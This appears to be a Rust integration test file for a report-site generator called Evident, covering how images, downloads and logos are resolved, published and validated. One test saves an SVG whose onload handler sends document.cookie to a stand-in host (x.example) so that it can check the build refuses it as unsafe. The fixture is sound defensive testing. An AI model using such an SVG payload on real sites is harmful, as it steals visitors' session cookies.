//! Images, downloads and the logo as an author meets them: files saved
//! beside the text that shows them (or in `content/files/`), named by a path
//! relative to that text, built from inside the project with no `--root`.
//! Every form of reference resolves to a published copy; a missing file is
//! an error where it is named; an unused one a warning (and not
//! published); an image without alternative text a warning, an error under
//! `--strict`; the printable report loads nothing from outside itself.

use crate::common::{evident, inline, read, write_inline};
use scraper::{Html, Selector};
use std::path::Path;

/// A small valid project: one finding in a folder of its own, one page,
/// one focus area and one case file; each test adds what it needs.
const PROJECT: &str = r#"
-- content/report.yaml --
title: Test review
organisation: Test service
scope: ["1"]
small_sample: 1
-- content/criteria/fw.yaml --
id: fw
title: Test framework
domains:
  - id: "1"
    title: Domain one
    standards:
      - id: "1.1"
        title: Assessment
        questions:
          - {id: "1.1.1", text: Is it good?}
-- content/cases/c.yaml --
- id: C1
  domain: "1"
  disposal: Order
  audit: file-read
  answers: {"1.1.1": "yes"}
-- content/focus/theme.md --
---
title: A theme
---
Text.
-- content/pages/about.md --
---
title: About
---
Text.
-- content/findings/assessment/good.md --
---
title: Good work
kind: strength
criteria: ["1.1"]
focus: [theme]
cases: [C1]
---
Body.
"#;

fn project(files: &str) -> tempfile::TempDir {
    let dir = inline(PROJECT);
    write_inline(dir.path(), files);
    dir
}

/// Run `evident <args>` from inside `dir`, as an author does: the exit
/// status and standard error.
fn run_in(dir: &Path, args: &[&str]) -> (i32, String) {
    let out = evident().current_dir(dir).args(args).output().unwrap();
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

/// The diagnostics `evident check --format json` gives, run inside `dir`,
/// as `code file:line:column`.
fn diagnostics(dir: &Path) -> Vec<String> {
    let out = evident()
        .current_dir(dir)
        .args(["check", "--format", "json"])
        .output()
        .unwrap();
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    json["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| {
            let at = |k: &str| match &d[k] {
                serde_json::Value::Null => "-".to_string(),
                serde_json::Value::String(s) => s.clone(),
                other => other.to_string(),
            };
            format!(
                "{} {}:{}:{}",
                at("code"),
                at("file"),
                at("line"),
                at("column")
            )
        })
        .collect()
}

/// A valid PNG of `width` × `height` grey pixels (stored, uncompressed).
fn png(width: u32, height: u32) -> Vec<u8> {
    fn crc(bytes: &[u8]) -> u32 {
        let mut c = 0xffff_ffffu32;
        for b in bytes {
            c ^= u32::from(*b);
            for _ in 0..8 {
                c = if c & 1 == 1 {
                    0xedb8_8320 ^ (c >> 1)
                } else {
                    c >> 1
                };
            }
        }
        !c
    }
    fn chunk(out: &mut Vec<u8>, kind: &[u8], data: &[u8]) {
        out.extend_from_slice(&(data.len() as u32).to_be_bytes());
        let mut body = kind.to_vec();
        body.extend_from_slice(data);
        out.extend_from_slice(&body);
        out.extend_from_slice(&crc(&body).to_be_bytes());
    }
    let mut raw = Vec::new();
    for _ in 0..height {
        raw.push(0);
        raw.extend(std::iter::repeat_n(0x80, width as usize));
    }
    let (mut a, mut b) = (1u32, 0u32);
    for byte in &raw {
        a = (a + u32::from(*byte)) % 65521;
        b = (b + a) % 65521;
    }
    let mut zlib = vec![0x78, 0x01, 0x01];
    zlib.extend_from_slice(&(raw.len() as u16).to_le_bytes());
    zlib.extend_from_slice(&(!(raw.len() as u16)).to_le_bytes());
    zlib.extend_from_slice(&raw);
    zlib.extend_from_slice(&((b << 16) | a).to_be_bytes());
    let mut ihdr = width.to_be_bytes().to_vec();
    ihdr.extend_from_slice(&height.to_be_bytes());
    ihdr.extend_from_slice(&[8, 0, 0, 0, 0]);
    let mut out = b"\x89PNG\r\n\x1a\n".to_vec();
    chunk(&mut out, b"IHDR", &ihdr);
    chunk(&mut out, b"IDAT", &zlib);
    chunk(&mut out, b"IEND", &[]);
    out
}

fn save(dir: &Path, path: &str, bytes: &[u8]) {
    let target = dir.join(path);
    std::fs::create_dir_all(target.parent().unwrap()).unwrap();
    std::fs::write(target, bytes).unwrap();
}

/// Each `<img>` of a built page: its `src` resolved from the page's own
/// folder (as a browser resolves it), and its other attributes.
fn images(dir: &Path, page: &str) -> Vec<(String, Vec<(String, String)>)> {
    let html = Html::parse_document(&read(dir, page));
    let folder = Path::new(page).parent().unwrap_or(Path::new(""));
    html.select(&Selector::parse("main img, header img").unwrap())
        .map(|img| {
            let src = img.value().attr("src").unwrap_or_default();
            let resolved = if src.starts_with("data:") {
                src.to_string()
            } else {
                let decoded = percent_decode(src);
                normalise(&folder.join(decoded))
            };
            let attrs = img
                .value()
                .attrs()
                .filter(|(k, _)| *k != "src")
                .map(|(k, v)| (k.to_string(), v.to_string()))
                .collect();
            (resolved, attrs)
        })
        .collect()
}

/// `%20` and the like, decoded.
fn percent_decode(s: &str) -> String {
    percent_encoding::percent_decode_str(s)
        .decode_utf8()
        .unwrap()
        .into_owned()
}

/// A relative path with `..` applied.
fn normalise(path: &Path) -> String {
    let mut parts: Vec<String> = Vec::new();
    for c in path.components() {
        match c {
            std::path::Component::ParentDir => {
                parts.pop();
            }
            std::path::Component::Normal(p) => parts.push(p.to_string_lossy().into_owned()),
            _ => {}
        }
    }
    parts.join("/")
}

fn attr<'a>(attrs: &'a [(String, String)], name: &str) -> Option<&'a str> {
    attrs
        .iter()
        .find(|(k, _)| k == name)
        .map(|(_, v)| v.as_str())
}

#[test]
fn every_form_of_reference_resolves_to_a_published_copy() {
    let dir = project(
        r#"
-- content/findings/assessment/good.md --
---
title: Good work
kind: strength
criteria: ["1.1"]
focus: [theme]
cases: [C1]
---
The sample by age:

![Bar chart of the cases by age](chart.png)

A photograph: ![The office's waiting room](../../files/room.png). The
same chart again, as raw HTML: <img src="chart.png" alt="">. The team
used [the audit tool](../../files/Audit%20tool.xlsx) and
[its guidance](<../../files/Audit guidance.pdf>).
-- content/pages/about.md --
---
title: About
---
![The review's timeline](../files/timeline.png)
"#,
    );
    save(
        dir.path(),
        "content/findings/assessment/chart.png",
        &png(40, 30),
    );
    save(dir.path(), "content/files/room.png", &png(8, 6));
    save(dir.path(), "content/files/timeline.png", &png(12, 4));
    save(
        dir.path(),
        "content/files/Audit tool.xlsx",
        b"PK\x03\x04 a workbook",
    );
    save(
        dir.path(),
        "content/files/Audit guidance.pdf",
        b"%PDF-1.7 guidance",
    );
    let (code, stderr) = run_in(dir.path(), &["build"]);
    assert_eq!(code, 0, "{stderr}");
    assert!(!stderr.contains("warning"), "{stderr}");

    let out = dir.path().join("output");
    // The standard's page is two folders down: every image there resolves,
    // from the page's own folder, to a file the build wrote.
    let found = images(dir.path(), "domains/1/1-1.html");
    assert_eq!(found.len(), 3, "{found:?}");
    for (src, attrs) in &found {
        assert!(src.starts_with("assets/"), "{src}");
        assert!(out.join(src).is_file(), "{src} was not published");
        assert_eq!(attr(attrs, "loading"), Some("lazy"));
    }
    let chart = &found[0];
    assert!(chart.0.starts_with("assets/chart.") && chart.0.ends_with(".png"));
    assert_eq!(
        std::fs::read(out.join(&chart.0)).unwrap(),
        png(40, 30),
        "the published copy is the file"
    );
    assert_eq!(attr(&chart.1, "width"), Some("40"));
    assert_eq!(attr(&chart.1, "height"), Some("30"));
    assert_eq!(attr(&chart.1, "alt"), Some("Bar chart of the cases by age"));
    assert_eq!(attr(&found[1].1, "width"), Some("8"));
    // The raw image: the same file, marked as decoration.
    assert_eq!(found[2].0, chart.0);
    assert_eq!(attr(&found[2].1, "alt"), Some(""));

    // A page one folder down, naming a shared file.
    let on_page = images(dir.path(), "pages/about.html");
    assert_eq!(on_page.len(), 1);
    assert!(out.join(&on_page[0].0).is_file());
    assert_eq!(attr(&on_page[0].1, "width"), Some("12"));

    // Downloads keep their names under files/, and the links reach them.
    assert_eq!(
        std::fs::read(out.join("files/Audit tool.xlsx")).unwrap(),
        b"PK\x03\x04 a workbook"
    );
    assert!(out.join("files/Audit guidance.pdf").is_file());
    let html = Html::parse_document(&read(dir.path(), "domains/1/1-1.html"));
    let hrefs: Vec<String> = html
        .select(&Selector::parse("main a").unwrap())
        .filter_map(|a| a.value().attr("href"))
        .filter(|h| h.contains("files/"))
        .map(|h| normalise(&Path::new("domains/1").join(percent_decode(h))))
        .collect();
    assert_eq!(
        hrefs,
        ["files/Audit tool.xlsx", "files/Audit guidance.pdf"],
        "each link resolves from its page to the published file"
    );
}

#[test]
fn a_file_that_is_not_there_is_an_error_where_it_is_named() {
    let dir = project(
        r#"
-- content/findings/assessment/good.md --
---
title: Good work
kind: strength
criteria: ["1.1"]
---
See ![The chart](chrat.png) and [the tool](../../files/tool.xlsx).
"#,
    );
    save(
        dir.path(),
        "content/findings/assessment/chart.png",
        &png(2, 2),
    );
    let found = diagnostics(dir.path());
    assert!(
        found.contains(&"missing-file content/findings/assessment/good.md:6:18".to_string()),
        "{found:?}"
    );
    assert!(
        found.contains(&"missing-file content/findings/assessment/good.md:6:44".to_string()),
        "{found:?}"
    );
    let (code, stderr) = run_in(dir.path(), &["build"]);
    assert_eq!(code, 1, "{stderr}");
    assert!(
        stderr.contains("did you mean `content/findings/assessment/chart.png`?"),
        "{stderr}"
    );
    assert!(!dir.path().join("output").exists());
}

#[test]
fn a_file_nothing_names_is_a_warning_and_is_not_published() {
    let dir = project(
        r#"
-- content/findings/assessment/later.md --
---
title: Not yet
kind: strength
criteria: ["1.1"]
draft: true
---
![A chart for later](later.png)
"#,
    );
    save(
        dir.path(),
        "content/files/case-list.xlsx",
        b"names of children",
    );
    save(
        dir.path(),
        "content/findings/assessment/later.png",
        &png(2, 2),
    );
    // What operating systems and office suites leave behind: never content.
    save(dir.path(), "content/files/Thumbs.db", b"x");
    save(dir.path(), "content/files/desktop.ini", b"x");
    save(dir.path(), "content/files/.DS_Store", b"x");
    save(dir.path(), "content/files/~$case-list.xlsx", b"x");
    let found = diagnostics(dir.path());
    assert_eq!(
        found,
        ["unused-file content/files/case-list.xlsx:-:-"],
        "one warning: the file named only by a draft is not reported"
    );
    let (code, stderr) = run_in(dir.path(), &["build"]);
    assert_eq!(code, 0, "{stderr}");
    let published: Vec<String> = walkdir::WalkDir::new(dir.path().join("output"))
        .into_iter()
        .filter_map(Result::ok)
        .filter(|e| e.file_type().is_file())
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    for never in ["case-list.xlsx", "Thumbs.db", "desktop.ini", ".DS_Store"] {
        assert!(
            !published.iter().any(|p| p == never),
            "{never} was published"
        );
    }
    assert!(!published.iter().any(|p| p.starts_with("later.")));
    let (code, stderr) = run_in(dir.path(), &["build", "--strict"]);
    assert_eq!(code, 1, "{stderr}");
    // With the drafts, the draft's image is published.
    let (code, stderr) = run_in(dir.path(), &["build", "--drafts"]);
    assert_eq!(code, 0, "{stderr}");
    assert!(
        std::fs::read_dir(dir.path().join("output/assets"))
            .unwrap()
            .any(|e| e
                .unwrap()
                .file_name()
                .to_string_lossy()
                .starts_with("later."))
    );
}

#[test]
fn the_deny_terms_file_under_content_is_never_published_nor_warned_about() {
    let dir = project(
        r#"
-- content/private/deny.txt --
Northbrook
"#,
    );
    let report = dir.path().join("content/report.yaml");
    let text = std::fs::read_to_string(&report).unwrap();
    std::fs::write(
        &report,
        format!("{text}privacy:\n  deny_terms_file: content/private/deny.txt\n"),
    )
    .unwrap();
    assert_eq!(diagnostics(dir.path()), Vec::<String>::new());
    let (code, stderr) = run_in(dir.path(), &["build", "--strict"]);
    assert_eq!(code, 0, "{stderr}");
    assert!(!dir.path().join("output/files/deny.txt").exists());
}

#[test]
fn an_image_without_alternative_text_is_a_warning_and_fails_strict() {
    let dir = project(
        r#"
-- content/findings/assessment/good.md --
---
title: Good work
kind: strength
criteria: ["1.1"]
---
![](chart.png) and <img src="chart.png"> but <img src="chart.png" alt=""> is decoration.
"#,
    );
    save(
        dir.path(),
        "content/findings/assessment/chart.png",
        &png(2, 2),
    );
    assert_eq!(
        diagnostics(dir.path()),
        [
            "missing-alt content/findings/assessment/good.md:6:5",
            "missing-alt content/findings/assessment/good.md:6:30",
        ]
    );
    let (code, stderr) = run_in(dir.path(), &["build"]);
    assert_eq!(code, 0, "{stderr}");
    let (code, stderr) = run_in(dir.path(), &["build", "--strict"]);
    assert_eq!(code, 1, "{stderr}");
    assert!(stderr.contains("missing-alt"), "{stderr}");
}

#[test]
fn an_image_alone_in_a_paragraph_with_a_title_is_a_figure() {
    let dir = project(
        r#"
-- content/findings/assessment/good.md --
---
title: Good work
kind: strength
criteria: ["1.1"]
---
![Bar chart of cases by age](chart.png "Cases by age group, <10 of 18")

Inline ![a chart](chart.png "not a caption") in a sentence.
"#,
    );
    save(
        dir.path(),
        "content/findings/assessment/chart.png",
        &png(2, 2),
    );
    let (code, stderr) = run_in(dir.path(), &["build"]);
    assert_eq!(code, 0, "{stderr}");
    let html = Html::parse_document(&read(dir.path(), "domains/1/1-1.html"));
    // The findings' figures (the theme draws figures of its own too).
    let figures: Vec<String> = html
        .select(&Selector::parse("main figure").unwrap())
        .filter(|f| f.select(&Selector::parse("img").unwrap()).next().is_some())
        .flat_map(|f| {
            f.select(&Selector::parse("figcaption").unwrap())
                .collect::<Vec<_>>()
        })
        .map(|c| c.text().collect())
        .collect();
    assert_eq!(figures, ["Cases by age group, <10 of 18"]);
    let in_figure = html
        .select(&Selector::parse("main figure > img").unwrap())
        .next()
        .unwrap();
    assert_eq!(
        in_figure.value().attr("title"),
        None,
        "the caption is not also a tooltip"
    );
    let inline_image = html
        .select(&Selector::parse("main p > img").unwrap())
        .next()
        .unwrap();
    assert_eq!(inline_image.value().attr("title"), Some("not a caption"));
}

#[test]
fn the_printable_report_carries_its_images_and_lists_its_downloads() {
    let dir = project(
        r#"
-- content/findings/assessment/good.md --
---
title: Good work
kind: strength
criteria: ["1.1"]
---
![The chart](chart.png) and <img src="diagram.svg" alt="A diagram">; see
[the tool](../../files/Audit%20tool.xlsx).
"#,
    );
    save(
        dir.path(),
        "content/findings/assessment/chart.png",
        &png(3, 2),
    );
    save(
        dir.path(),
        "content/findings/assessment/diagram.svg",
        br##"<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 30 20"><rect width="30" height="20" fill="#1d70b8"/></svg>"##,
    );
    save(dir.path(), "content/files/Audit tool.xlsx", b"PK");
    let (code, stderr) = run_in(dir.path(), &["build"]);
    assert_eq!(code, 0, "{stderr}");
    let html = Html::parse_document(&read(dir.path(), "report.html"));
    let srcs: Vec<&str> = html
        .select(&Selector::parse("img").unwrap())
        .filter_map(|i| i.value().attr("src"))
        .collect();
    assert_eq!(srcs.len(), 2);
    assert!(srcs[0].starts_with("data:image/png;base64,"), "{}", srcs[0]);
    assert!(
        srcs[1].starts_with("data:image/svg+xml;base64,"),
        "{}",
        srcs[1]
    );
    // Nothing else is loaded: no other element names a source or a
    // stylesheet outside the file.
    let loads: Vec<String> = html
        .select(&Selector::parse("[src], link[href], object, embed, iframe").unwrap())
        .filter_map(|e| {
            e.value()
                .attr("src")
                .or(e.value().attr("href"))
                .map(str::to_string)
        })
        .filter(|s| !s.starts_with("data:"))
        .collect();
    assert_eq!(loads, Vec::<String>::new());
    let attachments: Vec<String> = html
        .select(&Selector::parse("#attachments li").unwrap())
        .map(|li| li.text().collect())
        .collect();
    assert_eq!(attachments, ["Audit tool.xlsx"]);
}

#[test]
fn an_svg_that_could_run_script_is_refused() {
    let dir = project(
        r#"
-- content/findings/assessment/good.md --
---
title: Good work
kind: strength
criteria: ["1.1"]
---
![A chart](chart.svg)
"#,
    );
    save(
        dir.path(),
        "content/findings/assessment/chart.svg",
        br#"<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('https://x.example/'+document.cookie)"><script>alert(1)</script></svg>"#,
    );
    let (code, stderr) = run_in(dir.path(), &["build"]);
    assert_eq!(code, 1, "{stderr}");
    assert!(stderr.contains("unsafe-svg"), "{stderr}");
    assert!(
        stderr.contains("content/findings/assessment/chart.svg"),
        "{stderr}"
    );
    assert!(stderr.contains("a <script> element"), "{stderr}");
    assert!(stderr.contains("an event handler `onload`"), "{stderr}");
}

#[test]
fn the_logo_is_on_every_page_and_on_the_reports_cover() {
    let dir = project("");
    save(dir.path(), "content/files/logo.png", &png(60, 20));
    let report = dir.path().join("content/report.yaml");
    let text = std::fs::read_to_string(&report).unwrap();
    std::fs::write(
        &report,
        format!("{text}logo:\n  file: files/logo.png\n  alt: Test service\n"),
    )
    .unwrap();
    let (code, stderr) = run_in(dir.path(), &["build", "--strict"]);
    assert_eq!(code, 0, "{stderr}");
    let out = dir.path().join("output");
    let mut pages = 0;
    for entry in walkdir::WalkDir::new(&out) {
        let entry = entry.unwrap();
        let rel = entry
            .path()
            .strip_prefix(&out)
            .unwrap()
            .to_string_lossy()
            .replace('\\', "/");
        if !rel.ends_with(".html") || rel == "report.html" {
            continue;
        }
        if rel == "404.html" {
            // Shown at any address, it carries its logo in itself.
            let html = Html::parse_document(&read(dir.path(), &rel));
            let src = html
                .select(&Selector::parse("header img.site-logo").unwrap())
                .next()
                .and_then(|logo| logo.value().attr("src").map(str::to_string))
                .unwrap_or_else(|| panic!("no logo on {rel}"));
            assert!(src.starts_with("data:image/png;base64,"), "{src}");
            continue;
        }
        pages += 1;
        let html = Html::parse_document(&read(dir.path(), &rel));
        let logo = html
            .select(&Selector::parse("header img.site-logo").unwrap())
            .next()
            .unwrap_or_else(|| panic!("no logo on {rel}"));
        assert_eq!(logo.value().attr("alt"), Some("Test service"));
        assert_eq!(logo.value().attr("width"), Some("60"));
        let folder = Path::new(&rel).parent().unwrap().to_path_buf();
        let src = normalise(&folder.join(logo.value().attr("src").unwrap()));
        assert!(out.join(&src).is_file(), "{rel}: {src}");
    }
    assert!(pages > 5);
    let html = Html::parse_document(&read(dir.path(), "report.html"));
    let cover = html
        .select(&Selector::parse(".cover img").unwrap())
        .next()
        .unwrap();
    assert!(
        cover
            .value()
            .attr("src")
            .unwrap()
            .starts_with("data:image/png;base64,")
    );

    // A logo that is not there is an error at the setting.
    std::fs::write(
        &report,
        format!("{text}logo:\n  file: files/logos.png\n  alt: Test service\n"),
    )
    .unwrap();
    let (code, stderr) = run_in(dir.path(), &["build"]);
    assert_eq!(code, 1, "{stderr}");
    assert!(stderr.contains("missing-file"), "{stderr}");
    assert!(
        stderr.contains("did you mean `files/logo.png`?"),
        "{stderr}"
    );
}

#[test]
fn a_link_to_a_yaml_file_says_it_is_content_not_a_download() {
    let dir = project(
        r#"
-- content/findings/assessment/good.md --
---
title: Good work
kind: strength
criteria: ["1.1"]
---
See [the cases](../../cases/c.yaml).
"#,
    );
    let (code, stderr) = run_in(dir.path(), &["check"]);
    assert_eq!(code, 1, "{stderr}");
    assert!(
        stderr.contains(
            "names `content/cases/c.yaml`, which is content Evident reads, not a file it publishes"
        ),
        "{stderr}"
    );
    assert!(stderr.contains("`case:C04` for a case"), "{stderr}");
}

#[test]
fn a_raw_link_to_a_file_is_published_and_checked_like_a_markdown_one() {
    let dir = project(
        r#"
-- content/findings/assessment/good.md --
---
title: Good work
kind: strength
criteria: ["1.1"]
---
<p>Download <a href="../../files/tool.xlsx">the tool</a> or <a href="../../files/gone.pdf">the old one</a>.</p>
"#,
    );
    save(dir.path(), "content/files/tool.xlsx", b"PK");
    assert_eq!(
        diagnostics(dir.path()),
        ["missing-file content/findings/assessment/good.md:6:70"]
    );
    let report = dir.path().join("content/findings/assessment/good.md");
    let text = std::fs::read_to_string(&report).unwrap();
    std::fs::write(
        &report,
        text.replace(" or <a href=\"../../files/gone.pdf\">the old one</a>", ""),
    )
    .unwrap();
    let (code, stderr) = run_in(dir.path(), &["build"]);
    assert_eq!(code, 0, "{stderr}");
    let html = Html::parse_document(&read(dir.path(), "domains/1/1-1.html"));
    let href = html
        .select(&Selector::parse("main a").unwrap())
        .find(|a| a.text().collect::<String>() == "the tool")
        .and_then(|a| a.value().attr("href"))
        .unwrap()
        .to_string();
    assert_eq!(
        normalise(&Path::new("domains/1").join(&href)),
        "files/tool.xlsx"
    );
    assert!(dir.path().join("output/files/tool.xlsx").is_file());
}
